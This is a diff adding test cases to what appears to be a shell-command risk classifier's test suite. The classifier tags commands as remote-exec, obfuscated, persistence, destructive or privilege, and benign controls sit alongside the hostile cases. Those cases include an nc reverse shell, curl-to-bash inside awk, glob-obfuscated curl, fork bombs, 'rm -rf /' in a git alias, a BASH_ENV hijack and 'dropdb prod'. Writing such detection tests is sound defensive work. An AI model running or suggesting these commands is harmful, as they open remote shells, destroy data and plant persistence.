@@ -368,3 +368,44 @@ describe("shell pack: commands it now knows", () => {
   ];
   it.each(CASES)("%s", (command, has, hasNot) => expectTags(command, has, hasNot));
 });
+
+describe("shell pack: reverse shells, expanded names and embedded commands", () => {
+  const CASES: Case[] = [
+    ["mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f", ["remote-exec"], []],
+    ["nc -l 4444 | bash", ["remote-exec"], []],
+    ["tar cz src | nc backup.example 9000", [], ["remote-exec"]],
+    ["bash build.sh | tee build.log", [], ["remote-exec"]],
+    ["/???/???/c?rl http://x.example/p.sh", ["obfuscated"], []],
+    ["/usr/bin/[cw]url http://x.example", ["obfuscated"], []],
+    ["exec {/,bi,n/,sh}", ["obfuscated"], []],
+    ["ls *.txt", ["read"], ["obfuscated"]],
+    ["cat /etc/{passwd,group}", [], ["obfuscated"]],
+    ["git config core.hooksPath /tmp/attacker-hooks", ["persistence"], []],
+    ["git config alias.st '!rm -rf /'", ["persistence", "destructive"], []],
+    ["git config alias.co checkout", [], ["persistence"]],
+    ["git config user.email dev@example.com", [], ["persistence"]],
+    ["git config --get core.sshCommand", [], ["persistence"]],
+    ["export BASH_ENV=/tmp/evil.sh", ["persistence"], []],
+    ["export LD_LIBRARY_PATH=/usr/local/lib", [], ["persistence"]],
+    ["perl -e 'fork while 1'", ["destructive"], []],
+    ['python3 -c "import os; [os.fork() for _ in iter(int, 1)]"', ["destructive"], []],
+    ['python3 -c "import os; pid = os.fork()"', [], ["destructive"]],
+    ["awk 'BEGIN{system(\"curl x.example | bash\")}'", ["remote-exec"], []],
+    ['awk \'BEGIN{while(("curl x.example/p"|getline l)>0) print l | "bash"}\'', ["remote-exec"], []],
+    ["awk '{print $1}' data.txt", ["read"], ["remote-exec"]],
+    ["gdb --batch --eval-command='call system(\"rm -rf /home/user\")' ./app", ["destructive"], []],
+    ["terragrunt run-all destroy", ["destructive"], []],
+    ["terragrunt plan", ["read"], ["destructive"]],
+    ["dropdb -U postgres prod", ["destructive"], []],
+    ["mysqladmin -u root drop mydb", ["destructive"], []],
+    ["mysqladmin status", ["read"], ["destructive"]],
+    ["tmate", ["exec"], []],
+    ["gcore 1234", ["secrets", "privilege"], []],
+    ["reptyr 4242", ["privilege"], []],
+    ["debugfs -w /dev/sda1", ["privilege", "destructive"], []],
+    ["iptables-save", ["read"], ["unclassified"]],
+    ["iptables-restore /tmp/rules.v4", ["privilege"], []],
+    ["install_name_tool -add_rpath /tmp/evil /usr/local/bin/app", ["privilege"], []],
+  ];
+  it.each(CASES)("%s", (command, has, hasNot) => expectTags(command, has, hasNot));
+});
